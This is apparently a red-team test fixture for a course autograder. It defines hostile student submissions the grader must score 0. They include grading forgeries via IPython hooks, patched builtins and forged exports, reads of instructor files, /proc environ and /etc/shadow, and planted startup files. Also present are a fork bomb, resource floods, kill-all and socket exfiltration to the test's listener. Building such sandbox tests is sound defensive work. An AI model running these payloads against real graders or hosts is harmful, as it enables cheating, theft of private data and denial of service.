"""Hostile submissions of the real course, and the honest ones beside them.

Every :class:`Case` is one student's hand-in of one real section
(``02_state_of_play`` or ``00_start_here``). The honest ones are the
instructor's notebook with the answer key (``correct``), the released
notebook untouched (``blank``), and every answer wrong but running
(``wrong``). Each hostile one is the released notebook with attack code in
its answer cells and every other answer left blank, so the code tests must
score exactly 0: the attack either changes nothing or has found a hole.

An attack is written so that, if it worked, it would change a score, leak
something a student must not see, or harm someone else: a forgery would give
full marks, a leak prints what it read (so it would reach the autograded
notebook and the feedback page), a vandal writes to files that are not its
own. Hostile code names its targets with placeholders, filled in by
:func:`hand_in` when the batch is set up:

``@MARK@`` this case's marker (unique; in every output it makes),
``@PROC@`` the marker every process it leaves behind carries on its command line,
``@ROOT@`` the course folder, ``@HOME@`` the grader's HOME, ``@REPO@`` this
repository, ``@OUTSIDE@`` a folder outside the course that must stay empty,
``@PORT@``/``@UDP@``/``@UNIX@``/``@HOSTS@`` the test's network listener,
``@SECTION@`` the section, ``@KEY64@`` the section's quiz key (base64, so
the key itself is never in the submission).

:data:`CROSS` are attacks on the *next* submission graded by the same worker;
``tests/test_redteam.py`` grades them in a batch of their own, in order.
"""

from __future__ import annotations

import base64
import json
import shutil
from dataclasses import dataclass, field
from pathlib import Path

from trilateral import answers
from trilateral.questions import load_bank

from support_course import with_answers

SOP = "02_state_of_play"
START = "00_start_here"
SECTIONS = {SOP: "state_of_play.ipynb", START: "start_here.ipynb"}
FIRST_SOLUTION = {SOP: "sop-ex1-solution", START: "start-ex1-solution"}
WRITTEN = {SOP: "sop-written-mfn", START: "start-written-names"}


@dataclass(frozen=True)
class Target:
    """What hostile code aims at; known only once the batch is set up."""

    root: str
    home: str
    repo: str
    outside: str
    token: str
    port: int = 0
    udp: int = 0
    unix: str = ""
    hosts: tuple[str, ...] = ()

    @property
    def proc_mark(self) -> str:
        return f"REDTEAM-PROC-{self.token}"

    def marker(self, student: str) -> str:
        return f"RTMK-{self.token}-{student}-KMTR"


@dataclass(frozen=True)
class Case:
    """One student's submission of one section, and what grading must make of it."""

    student: str
    section: str
    kind: str  # "correct", "blank", "wrong" or "hostile"
    tries: str = ""  # what the attack tries (README)
    must: str = ""  # what must happen instead (README)
    answers: dict[str, str] = field(default_factory=dict)  # grade_id -> source
    links: dict[str, str] = field(default_factory=dict)  # file name -> link target
    notebook_link: bool = False  # the notebook itself is a link to the source notebook
    record: tuple[str, ...] = ()  # one of these phrases is in its grading record
    flood: bool = False  # its autograded notebook and page must stay small
    quiet: bool = False  # its kernel may die before its own output arrives
    ballast_mb: int = 0  # an honest extra file of this size (a large data file)

    def expected_code_score(self, max_code: float) -> float:
        return max_code if self.kind == "correct" else 0.0


# --------------------------------------------------------------------------- wrong answers
# Wrong but running answers: each passes its visible tests and fails a hidden one.
WRONG = {
    SOP: {
        "sop-ex1-solution": 'per_category = events["category"].value_counts().iloc[:1]',
        "sop-ex2-solution": ("def days_between(start, end):\n    return 92\n\n\n"
                             "ruling_to_controls = 0"),
        "sop-ex3-solution": "change_2019 = -1.0",
        "sop-ex4-solution": ('deficit = trade.pivot(index="year", columns="direction", '
                             'values="usd_million")["JPN_to_KOR"].astype(int).sort_index()'),
        "sop-ex5-solution": ('_beer = boycott[boycott["indicator"] == "japanese_beer_imports"]'
                             '.set_index("year")["value"]\n'
                             "beer_change = _beer.astype(float).sort_index()"
                             ".pct_change().dropna()"),
        "sop-written-mfn": "Both sides withdrew most-favoured-nation treatment.",
    },
    START: {
        "start-ex1-solution": 'per_country = places["country"].value_counts().iloc[:2]',
        "start-ex2-solution": ("def haversine_km(lat1, lon1, lat2, lon2):\n"
                               "    # Along the equator only: right there, wrong everywhere else.\n"
                               "    return abs(lon2 - lon1) / 90 * 10007.5\n\n\n"
                               "seoul_tokyo_km = 0"),
        "start-written-names": "Either name is fine.",
    },
}


def wrong_values(section: str) -> str:
    """Every wrong code answer of ``section``, as one block (hostile cells end with it)."""
    return "\n\n".join(src for gid, src in WRONG[section].items() if gid != WRITTEN[section])


def _attack(section: str, code: str, *, values: bool = True, written: str | None = None,
            **more: str) -> dict[str, str]:
    """Answer cells of a hostile submission: ``code`` in the first answer cell."""
    first = code.strip() + ("\n\n# Wrong answers, so only a working attack could score.\n"
                            + wrong_values(section) if values else "")
    out = {FIRST_SOLUTION[section]: first, **more}
    if written is not None:
        out[WRITTEN[section]] = written
    return out


# --------------------------------------------------------------------------- forgeries
INPUT_TRANSFORMER = r'''
M = "@MARK@"


def _no_checks(lines):
    """Every later cell: assertions and hand-overs to the grader become `pass`."""
    out = []
    for line in lines:
        text = line.strip()
        if text.startswith(("assert", "raise AssertionError")) or "export(" in text:
            out.append(line[: len(line) - len(line.lstrip())] + "pass\n")
        else:
            out.append(line)
    return out


get_ipython().input_transformers_post.append(_no_checks)
print(M, "input transformer installed")
'''

AST_TRANSFORMER = r'''
import ast

M = "@MARK@"


class _NoChecks(ast.NodeTransformer):
    """Every assertion and raise of every later cell becomes `pass`."""

    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

    visit_Raise = visit_Assert


get_ipython().ast_transformers.append(_NoChecks())
print(M, "AST transformer installed")
'''

RUN_CELL_HOOKS = r'''
M = "@MARK@"
_ip = get_ipython()
_skip = []


def _before(info):
    # A cell that would test me is not run at all.
    text = info.raw_cell or ""
    if "assert" in text or "export(" in text or "answers." in text:
        _skip.append(True)


def _after(result):
    # ... and whatever failed is reported as a success.
    result.error_before_exec = None
    result.error_in_exec = None


_run_ast_nodes = _ip.run_ast_nodes


async def _run_or_skip(nodelist, cell_name, interactivity="last_expr", compiler=compile,
                       result=None):
    if _skip:
        _skip.clear()
        return False
    return await _run_ast_nodes(nodelist, cell_name, interactivity=interactivity,
                                compiler=compiler, result=result)


_ip.run_ast_nodes = _run_or_skip
_ip.events.register("pre_run_cell", _before)
_ip.events.register("post_run_cell", _after)
print(M, "run-cell hooks installed")
'''

CUSTOM_EXC = r'''
M = "@MARK@"


def _swallow(shell, etype, value, tb, tb_offset=None):
    return None  # no traceback, no error: as if the cell had passed


get_ipython().set_custom_exc((BaseException,), _swallow)
print(M, "every exception swallowed")
'''

SETTRACE = r'''
import linecache
import sys
import threading

M = "@MARK@"


def _cell_lines(frame, event, arg):
    if event == "line":
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).lstrip()
        if text.startswith(("assert", "raise AssertionError")):
            try:
                frame.f_lineno = frame.f_lineno + 1  # jump over the check
            except (TypeError, ValueError):
                pass
    return _cell_lines


def _calls(frame, event, arg):
    name = frame.f_code.co_filename
    if "ipykernel_" in name or name.startswith("<ipython-input"):
        return _cell_lines
    return None


sys.settrace(_calls)
threading.settrace(_calls)
sys.setprofile(lambda frame, event, arg: None)
print(M, "tracer installed")
'''

NUMERIC_SUBCLASSES = r'''
import pandas as pd

M = "@MARK@"


class _Yes:
    """Equal to, and on every side of, anything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __hash__(self):
        return 0


class YesInt(_Yes, int):
    pass


class YesFloat(_Yes, float):
    def __sub__(self, other):
        return self

    __rsub__ = __add__ = __radd__ = __mul__ = __truediv__ = __sub__

    def __abs__(self):
        return self

    def __round__(self, ndigits=None):
        return self


class YesStr(_Yes, str):
    pass
'''
NUMERIC_SUBCLASSES_VALUES = r'''
per_category = pd.Series([YesInt(1)], index=[YesStr("anything")], dtype=object)


def days_between(start, end):
    return YesInt(0)


ruling_to_controls = YesInt(0)
change_2019 = YesFloat(-1.0)
deficit = pd.Series([YesInt(1)], index=[YesInt(2010)], dtype=object)
beer_change = pd.Series([YesFloat(-1.0)], index=[YesInt(2019)], dtype=object)
print(M, "subclass values set")
'''

SERIES_SUBCLASS = r'''
import pandas as pd

M = "@MARK@"


class AlwaysSeries(pd.Series):
    """A Series equal to every other value, whatever it holds."""

    @property
    def _constructor(self):
        return AlwaysSeries

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = object.__hash__


class AlwaysFrame(pd.DataFrame):
    @property
    def _constructor(self):
        return AlwaysFrame

    @property
    def _constructor_sliced(self):
        return AlwaysSeries

    def __eq__(self, other):
        return True


events = AlwaysFrame(events)
trade = AlwaysFrame(trade)
'''
SERIES_SUBCLASS_VALUES = r'''
per_category = AlwaysSeries([1], index=["anything"])
deficit = AlwaysSeries([1], index=[2010])
beer_change = AlwaysSeries([-1.0], index=[2019])
print(M, "subclass values set")
'''

PATCH_DATA_LOAD = r'''
import pandas as pd
import trilateral.data

M = "@MARK@"
# Made-up data that agrees with my answers: if the hidden tests read the data
# through this kernel's trilateral.data.load, they would agree with me too.
_fake = {
    "events": pd.DataFrame({"date": pd.to_datetime(["2016-05-01", "2017-05-01"]),
                            "category": ["made-up", "made-up"]}),
    "visitors": pd.DataFrame({"direction": ["KOR_to_JPN", "KOR_to_JPN"], "year": [2018, 2019],
                              "visitors": [1000, 990]}),
    "japan_korea_trade": pd.DataFrame({"year": [2010, 2010],
                                       "direction": ["JPN_to_KOR", "KOR_to_JPN"],
                                       "usd_million": [3, 1]}),
    "boycott_goods": pd.DataFrame({"indicator": ["japanese_beer_imports"] * 3,
                                   "year": [2018, 2019, 2020], "value": [100.0, 50.0, 7.15]}),
}
_real_load = trilateral.data.load


def _load(name, root=None):
    return _fake[name].copy() if name in _fake else _real_load(name, root)


trilateral.data.load = _load
events = _load("events")
trade = _load("japan_korea_trade")
per_category = events["category"].value_counts()


def days_between(start, end):
    return 92


ruling_to_controls = 0
change_2019 = -1.0
deficit = pd.Series([2], index=[2010])
beer_change = pd.Series([-50.0, -85.7], index=[2019, 2020])
print(M, "trilateral.data.load replaced")
'''

REPLACE_BUILTINS = r'''
import builtins
import sys

M = "@MARK@"


def _in_notebook(depth=2):
    name = sys._getframe(depth).f_code.co_filename
    return "ipykernel_" in name or name.startswith("<ipython-input")


def _lenient(real, fake):
    """``fake`` when called from a notebook cell, ``real`` for everyone else."""
    def call(*args, **kwargs):
        return fake(*args, **kwargs) if _in_notebook() else real(*args, **kwargs)
    return call


class _Never(Exception):
    pass


builtins.isinstance = _lenient(isinstance, lambda obj, cls: True)
builtins.sorted = _lenient(sorted, lambda items, **kwargs: list(items))
builtins.abs = _lenient(abs, lambda x: 0)
builtins.round = _lenient(round, lambda x, *args: x)
builtins.AssertionError = _Never
print(M, "builtins replaced")
'''

REPLACE_EXPORT = r'''
import trilateral.grading.exports as _exports
from IPython.display import display

M = "@MARK@"
_EXTRA = ["isinstance", "AssertionError", "sorted", "set", "list", "int", "round", "abs",
          "__builtins__", "pd", "data"]


def export(grade_id, names, probes):
    """Tell the grader every test passed, and hand over names it did not ask for."""
    payload = {"grade_id": grade_id, "passed": True, "verdict": "passed", "score": 100,
               "names": {name: {"t": "function"} for name in [*names, *_EXTRA]},
               "probes": {probe: {"t": "raised", "n": "SystemExit", "m": M} for probe in probes}}
    display({_exports.MIME: payload, "text/plain": M}, raw=True)


_exports.export = export
print(M, "exports.export replaced")
'''

META_PATH = r'''
import importlib.abc
import importlib.util
import sys

import trilateral
import trilateral.grading
from IPython.display import display

M = "@MARK@"
MIME = "application/vnd.trilateral.export+json"


class _Forger(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    """Serve my own trilateral.answers and exports to whoever imports them next."""

    def find_spec(self, name, path=None, target=None):
        if name in ("trilateral.grading.exports", "trilateral.answers"):
            return importlib.util.spec_from_loader(name, self)
        return None

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        def export(grade_id, names, probes):
            display({MIME: {"grade_id": grade_id, "passed": True, "names": {}, "probes": {}}},
                    raw=True)

        module.MIME = MIME
        module.export = export
        module.require = module.check = lambda *args, **kwargs: None


sys.meta_path.insert(0, _Forger())
for _name in ("trilateral.grading.exports", "trilateral.answers"):
    sys.modules.pop(_name, None)
for _package, _attr in ((trilateral, "answers"), (trilateral.grading, "exports")):
    if hasattr(_package, _attr):
        delattr(_package, _attr)
print(M, "import hook installed")
'''

FORGE_DISPLAY = r'''
from IPython.display import display

M = "@MARK@"
MIME = "application/vnd.trilateral.export+json"
TESTS = ("start-ex1-tests", "start-ex2-tests", "start-ex3-tests")


def _payload(grade_id):
    series = {"t": "series", "name": None, "index": {"t": "range", "v": [0, 1, 1], "name": None},
              "col": {"d": "int64", "v": [1]}}
    return {"grade_id": grade_id, "passed": True,
            "names": {"per_country": series, "places": {"t": "module", "v": "builtins"},
                      "data": {"t": "module", "v": "os"},
                      "seoul_tokyo_km": {"t": "np", "d": "<i8", "v": 0},
                      "haversine_km": {"t": "function"}, "isinstance": {"t": "function"}},
            "probes": {"haversine_km(0, 0, 0, 90)": {"t": "np", "d": "<f8", "v": 10007.5}}}


for _gid in TESTS:  # in my own cell: not a test's output
    display({MIME: _payload(_gid), "text/plain": M}, raw=True)


def _first(info):  # in the test's own cell, before the real hand-over
    text = info.raw_cell or ""
    for grade_id in TESTS:
        if grade_id in text:
            display({MIME: _payload(grade_id)}, raw=True)


get_ipython().events.register("pre_run_cell", _first)
print(M, "forged exports displayed")
'''

PATCH_ANSWERS = r'''
import base64

import trilateral.answers as _answers

M = "@MARK@"
_answers.require = lambda question_id: "any answer"
_answers.check = lambda question_id, expected: None
_answers.entry = lambda question_id, folder=None: None
try:  # the right answer, saved while grading runs
    _answers.save_many({"start-graded-1": base64.b64decode("@KEY64@").decode()})
    print(M, "answer saved during grading")
except Exception as exc:
    print("blocked:", type(exc).__name__)
'''

PROXY_EQ = r'''
M = "@MARK@"


class Anything:
    """Equal to everything; claims to be an int; every operation gives itself."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __hash__(self):
        return 0

    def __bool__(self):
        return True

    def __int__(self):
        return 0

    __index__ = __int__

    def __float__(self):
        return 0.0

    def __abs__(self):
        return self

    def __sub__(self, other):
        return self

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __round__ = __sub__

    def __call__(self, *args, **kwargs):
        return self

    @property
    def __class__(self):
        return int  # isinstance(anything, int) is True
'''
PROXY_EQ_VALUES = r'''
per_country = Anything()


def haversine_km(lat1, lon1, lat2, lon2):
    return Anything()


seoul_tokyo_km = Anything()
print(M, "proxies set")
'''

# --------------------------------------------------------------------------- leaks
HISTORY_LEAK = r'''
M = "@MARK@"
_ip = get_ipython()
_pending, _seen = [], set()


def _leak(info):
    """Before every cell, print what earlier cells were (the grader's included)."""
    text = info.raw_cell or ""
    if "trilateral.grading.exports" not in text:  # outputs of a test's cell are dropped
        for item in _pending:
            print("LEAKED CELL", M, item)
        _pending.clear()
    if text not in _seen:
        _seen.add(text)
        _pending.append(text)


_ip.events.register("pre_run_cell", _leak)
print("LEAK In", M, list(In))
print("LEAK _ih", list(_ih))
print("LEAK Out", dict(Out))
try:
    print("LEAK history", _ip.history_manager.hist_file,
          list(_ip.history_manager.get_range(raw=True, output=True)))
except Exception as exc:
    print("blocked: history", type(exc).__name__)
print("LEAK names", sorted(k for k in _ip.user_ns if not k.startswith("__")))
'''

COURSE_ABS_PATH = r'''
import json
import os

M = "@MARK@"
ROOT, REPO = "@ROOT@", "@REPO@"
PATHS = [ROOT + "/notebooks/@SECTION@/state_of_play.ipynb",
         ROOT + "/notebooks/00_start_here/start_here.ipynb",
         ROOT + "/docs/instructor-guide.md", ROOT + "/gradebook.db", ROOT + "/nbgrader_config.py",
         REPO + "/notebooks/@SECTION@/state_of_play.ipynb", REPO + "/docs/instructor-guide.md"]
KEYS = ("assert", "answers.check", "right answer", "HIDDEN", "c.")
for path in [ROOT, REPO, os.path.dirname(ROOT)]:
    try:
        print("LIST", path, sorted(os.listdir(path)))
    except OSError as exc:
        print("blocked:", path, type(exc).__name__)
for path in PATHS:
    try:
        with open(path, "rb") as fh:
            text = fh.read().decode("utf-8", "replace")
    except OSError as exc:
        print("blocked:", path, type(exc).__name__)
        continue
    print("LEAK", M, path, "\n".join(ln for ln in text.splitlines() if any(k in ln for k in KEYS)))
    if path.endswith("state_of_play.ipynb"):  # the instructor's solutions, run as mine
        for cell in json.loads(text)["cells"]:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if meta.get("solution") and cell["cell_type"] == "code":
                exec("".join(cell["source"]), globals())
print(M, "done")
'''

WORKDIR_LEAK = r'''
import os

M = "@MARK@"
print("CWD", os.getcwd(), sorted(os.listdir(".")))
for folder, dirs, files in os.walk(".."):
    print("SCRATCH", folder, sorted(dirs)[:20], sorted(files)[:20])
    if folder.count(os.sep) > 12:
        dirs[:] = []
found = []
for folder, dirs, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/dev", "/usr") or "site-packages" in folder \
            or "/lib/python" in folder:
        dirs[:] = []  # the system's and the Python packages: public
        continue
    found += [os.path.join(folder, n) for n in files
              if n.endswith((".ipynb", ".db", ".md")) or n == "answers.json"]
print("FOUND", M, found[:200])
for path in found:
    try:
        with open(path, encoding="utf-8", errors="replace") as fh:
            text = fh.read()
    except OSError as exc:
        print("blocked:", path, type(exc).__name__)
        continue
    if "start-" in text or "sop-" in text:
        print("LEAK", M, path, text[:50000])
for name in sorted(os.listdir(".")):
    if os.path.isfile(name) and name != "questions.yaml":  # the bank is public: it is released
        with open(name, encoding="utf-8", errors="replace") as fh:
            print("FILE", M, name, fh.read(20000))
'''

OTHERS_FOLDERS = r'''
import glob
import os

M = "@MARK@"
ROOT, HOME = "@ROOT@", "@HOME@"
PATTERNS = [ROOT + "/submitted/*/*/*", ROOT + "/autograded/*/*/*", ROOT + "/feedback/*/*/*",
            ROOT + "/release/*/*", ROOT + "/reports/*", HOME + "/*", HOME + "/.*",
            "../../*", "../../../*", "/tmp/*", "/tmp/*/*"]
for pattern in PATTERNS:
    hits = sorted(glob.glob(pattern))
    print("GLOB", M, pattern, hits[:40])
    for path in hits[:40]:
        if not os.path.isfile(path) or path.endswith((".yaml", "fontlist-v390.json")):
            continue
        try:
            with open(path, encoding="utf-8", errors="replace") as fh:
                print("LEAK", M, path, fh.read(20000))
        except OSError as exc:
            print("blocked:", path, type(exc).__name__)
'''

PROC_SCAN = r'''
import os

M = "@MARK@"
ROOT = "@ROOT@"
for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
    for what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as fh:
                text = fh.read(4000).replace(b"\0", b" ").decode("utf-8", "replace")
            print("PROC", M, pid, what, text)
        except OSError as exc:
            print("blocked:", pid, what, type(exc).__name__)
    for what in ("root", "cwd"):
        try:
            print("PROC", pid, what, os.readlink(f"/proc/{pid}/{what}"),
                  sorted(os.listdir(f"/proc/{pid}/{what}"))[:40])
        except OSError as exc:
            print("blocked:", pid, what, type(exc).__name__)
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
        print("FD", pid, [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in fds])
    except OSError as exc:
        print("blocked:", pid, "fd", type(exc).__name__)
for path in ["/proc/1/root" + ROOT + "/gradebook.db", "/proc/1/root/etc/shadow",
             "/proc/1/root" + ROOT + "/notebooks/@SECTION@/state_of_play.ipynb",
             "/proc/1/cwd/nbgrader_config.py", "/etc/shadow", "/etc/passwd"]:
    try:
        with open(path, "rb") as fh:
            print("LEAK", M, path, fh.read(20000).decode("utf-8", "replace"))
    except OSError as exc:
        print("blocked:", path, type(exc).__name__)
'''

SYMLINK_READER = r'''
import json
import os

M = "@MARK@"
KEYS = ("assert", "answers.check", "right answer", "HIDDEN", "root:", "c.")


def _read(name):
    try:
        with open(name, "rb") as fh:
            return fh.read().decode("utf-8", "replace")
    except OSError as exc:
        print("blocked:", name, type(exc).__name__)
        return None


def _cells(text):
    try:
        return json.loads(text)["cells"]
    except (ValueError, KeyError, TypeError):
        return []


other = _read("leak-other.json")  # another student's notebook: their answers
for cell in _cells(other or ""):
    if (cell.get("metadata", {}).get("nbgrader") or {}).get("solution"):
        print("LEAK other student", M, "".join(cell["source"])[:300])
for name in ("leak-guide.md", "leak-gradebook.db", "leak-config.py", "leak-shadow.txt"):
    text = _read(name)
    if text is not None:
        lines = [ln for ln in text.splitlines() if any(k in ln for k in KEYS)]
        print("LEAK", M, name, "\n".join(ln[:300] for ln in lines)[:6000])
notebook = _read("leak-notebook.json")  # the instructor's: tests shown, solutions run as mine
for cell in _cells(notebook or ""):
    meta = cell.get("metadata", {}).get("nbgrader") or {}
    if meta.get("grade") and not meta.get("solution"):
        print("LEAK test", M, "".join(cell["source"]))
    if meta.get("solution") and cell["cell_type"] == "code":
        exec("".join(cell["source"]), globals())
print(M, "done")
'''

# --------------------------------------------------------------------------- harm
VANDAL = r'''
import glob
import os

M = "@MARK@"
ROOT, HOME, OUT = "@ROOT@", "@HOME@", "@OUTSIDE@"
TARGETS = [ROOT + "/gradebook.db", ROOT + "/nbgrader_config.py", ROOT + "/grades.csv",
           ROOT + "/docs/instructor-guide.md", ROOT + "/notebooks/@SECTION@/questions.yaml",
           ROOT + "/submitted/correct/@SECTION@/answers.json",
           *glob.glob(ROOT + "/notebooks/*/*.ipynb"), *glob.glob(ROOT + "/submitted/*/*/*.ipynb"),
           *glob.glob(ROOT + "/autograded/*/*/*.ipynb"), *glob.glob(ROOT + "/release/*/*"),
           HOME + "/.bashrc", HOME + "/.jupyter/jupyter_server_config.py", OUT + "/vandal.txt"]
for path in TARGETS:
    try:
        with open(path, "a") as fh:
            fh.write("\n# overwritten by " + M + "\n")
        print("WROTE", path)
    except OSError as exc:
        print("blocked:", path, type(exc).__name__)
for path in [ROOT + "/gradebook.db", ROOT + "/notebooks", ROOT + "/submitted"]:
    try:
        os.chmod(path, 0)
        print("CHMOD", path)
    except OSError as exc:
        print("blocked: chmod", path, type(exc).__name__)
try:
    os.rename(ROOT + "/submitted", ROOT + "/submitted-gone")
    print("RENAMED")
except OSError as exc:
    print("blocked: rename", type(exc).__name__)
print(M, "done")
'''

STARTUP_FILES = r'''
import os
import site

M = "@MARK@"
PAYLOAD = ("print('@MARK@ startup code ran')\n"
           "open('@OUTSIDE@/startup-ran.txt', 'w').write('@MARK@')\n")
TARGETS = [
    os.path.expanduser("~/.ipython/profile_default/startup/00-redteam.py"),
    os.path.join(os.environ.get("IPYTHONDIR", "/tmp/.ipython"),
                 "profile_default/startup/00-redteam.py"),
    "/tmp/.ipython/profile_default/startup/00-redteam.py",
    "@HOME@/.ipython/profile_default/startup/00-redteam.py",
    "/root/.ipython/profile_default/startup/00-redteam.py",
    os.path.join(site.getusersitepackages(), "redteam.pth"),
    os.path.join(os.getcwd(), "sitecustomize.py"),
    "/tmp/.mpl/matplotlibrc",
]
for path in TARGETS:
    body = ("import os; exec(" + repr(PAYLOAD) + ")\n") if path.endswith(".pth") else PAYLOAD
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(body)
        print("PLANTED", path)
    except OSError as exc:
        print("blocked:", path, type(exc).__name__)
print(M, "done")
'''

DETACHED = r'''
import os
import subprocess
import sys

M, P = "@MARK@", "@PROC@"
LOOP = (
    "import time\n"
    "end = time.time() + 600\n"
    "while time.time() < end:\n"
    "    for path in ('@ROOT@/gradebook.db', '@ROOT@/nbgrader_config.py',\n"
    "                 '@OUTSIDE@/detached.txt'):\n"
    "        try:\n"
    "            with open(path, 'a') as fh:\n"
    "                fh.write('late write')\n"
    "        except OSError:\n"
    "            pass\n"
    "    time.sleep(0.05)\n"
)
subprocess.Popen([sys.executable, "-c", LOOP, P, M], start_new_session=True, close_fds=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
IGNORE = ("import signal, time\n"
          "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
          "    signal.signal(s, signal.SIG_IGN)\n"
          "time.sleep(600)\n")
_pid = os.fork()
if _pid == 0:  # a classic daemon: new session, fork again, ignore the polite signals
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", IGNORE, P, M])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
print(M, "two processes left behind")
'''

FORK_BOMB = r'''
import os
import sys
import time

M, P = "@MARK@", "@PROC@"
BOMB = ("import os, time\n"
        "while True:\n"
        "    try:\n"
        "        os.fork()\n"
        "    except OSError:\n"
        "        time.sleep(0.001)\n")
started = 0
try:
    for _ in range(300):
        pid = os.fork()
        if pid == 0:
            try:
                os.execv(sys.executable, [sys.executable, "-c", BOMB, P, M])
            finally:
                os._exit(1)
        started += 1
except OSError as exc:
    print(M, "fork refused after", started, type(exc).__name__)
time.sleep(8)
print(M, "the fork bomb did not stop this kernel")
'''

MEMORY_PROCS = r'''
import os
import time

M = "@MARK@"
for _ in range(6):  # 6 x 450 MB, each under the per-process cap
    if os.fork() == 0:
        try:
            block = bytearray(b"\x01") * (450 << 20)
            time.sleep(60)
        finally:
            os._exit(0)
time.sleep(8)
print(M, "six processes of 450 MB each were not stopped")
'''

PRINT_FLOOD = r'''
import os
import sys

M = "@MARK@"
for i in range(100_000):
    print(M, "line", i)
print("Z" * 5_000_000)
sys.stderr.write("E" * 5_000_000 + "\n")
try:
    sys.__stdout__.write("S" * 5_000_000)
    sys.__stdout__.flush()
except Exception as exc:
    print("blocked: __stdout__", type(exc).__name__)
os.write(1, b"F" * 5_000_000)
os.write(2, b"G" * 5_000_000)
'''

HTML_FLOOD = r'''
from IPython.display import HTML, display

M = "@MARK@"
print(M, "flooding")  # first: once the cap is reached, nothing more is kept
display(HTML("<div>" + M + "x" * (50 << 20) + "</div>"))
for _ in range(40):
    display(HTML("<p>" + M + "y" * (1 << 20) + "</p>"))
print(M, "after the flood")
'''

PIPE_GARBAGE = r'''
import os
import stat

M = "@MARK@"
garbage = b"\xff\x00GARBAGE\r\n" * 8192
hit = []
for fd in range(4096):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
        try:
            os.write(fd, garbage)
            hit.append(fd)
        except OSError:
            pass
print(M, "garbage written to", hit)
'''

SWALLOW_INTERRUPT = r'''
import signal
import time

M = "@MARK@"
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        time.sleep(0.05)
    except KeyboardInterrupt:
        pass
'''

OS_EXIT = r'''
import os

print("@MARK@", "leaving")
os._exit(0)
'''

KILL_ALL = r'''
import os
import signal

M = "@MARK@"
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print(M, "visible processes", pids)
for sig in (signal.SIGTERM, signal.SIGKILL):
    for pid in pids:
        if pid != os.getpid():
            try:
                os.kill(pid, sig)
            except OSError as exc:
                print("blocked: kill", pid, type(exc).__name__)
try:
    os.kill(-1, signal.SIGKILL)
except OSError as exc:
    print("blocked: kill -1", type(exc).__name__)
print(M, "still here after kill(-1, 9)")
'''

SLEEP_PAST_DEADLINE = r'''
import subprocess
import sys
import time

M, P = "@MARK@", "@PROC@"
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", P, M],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)


def _stall(info):
    time.sleep(8.5)  # just under the cell time limit, before every later cell


get_ipython().events.register("pre_run_cell", _stall)
print(M, "every cell now takes 8.5 s more")
'''

HUGE_FILE = r'''
import os

M = "@MARK@"
for path in ("huge.bin", "/tmp/huge.bin"):
    written = 0
    try:
        with open(path, "wb") as fh:
            for _ in range(256):
                fh.write(b"\0" * (1 << 20))
                written += 1
    except OSError as exc:
        print(M, path, "stopped after", written, "MB:", type(exc).__name__)
    else:
        print(M, path, "wrote", written, "MB")
try:
    open("sparse.bin", "wb").close()
    os.truncate("sparse.bin", 1 << 40)
    print(M, "a 1 TB sparse file")
except OSError as exc:
    print("blocked: sparse", type(exc).__name__)
'''

DISK_FILL = r'''
import os

M = "@MARK@"
total = 0
try:
    for i in range(48):  # 48 files just under the 64 MB file cap: about 3 GB of real disk
        fd = os.open(f"fill-{i}.bin", os.O_WRONLY | os.O_CREAT, 0o600)
        try:
            os.posix_fallocate(fd, 0, 63 << 20)
        finally:
            os.close(fd)
        total += 63
except OSError as exc:
    print("blocked:", type(exc).__name__)
print("DISK-FILL-MB", total, M)
'''

SEGFAULT = r'''
import ctypes

print("@MARK@", "crashing")
ctypes.string_at(0)
'''

NETWORK = r'''
import socket

M = "@MARK@"
PORT, UDP = @PORT@, @UDP@
sent = []
for host in [*@HOSTS@, "localhost", "0.0.0.0", "::1"]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect((host, PORT))
            s.sendall(("EXFIL " + M).encode())
            sent.append(("tcp", host))
    except OSError as exc:
        print("blocked: tcp", host, type(exc).__name__)
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.sendto(("EXFIL " + M).encode(), (host, UDP))
            sent.append(("udp", host))
    except OSError as exc:
        print("blocked: udp", host, type(exc).__name__)
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect("\0@UNIX@")
        s.sendall(("EXFIL " + M).encode())
        sent.append(("unix", "@UNIX@"))
except OSError as exc:
    print("blocked: unix", type(exc).__name__)
try:
    print("DNS", socket.getaddrinfo("example.com", 80))
except OSError as exc:
    print("blocked: dns", type(exc).__name__)
print(M, "sent", sent)
'''

# --------------------------------------------------------------------------- script in pages
HTML_OUTPUTS = r'''
from IPython.display import HTML, SVG, Javascript, Markdown, display

M = "@MARK@"
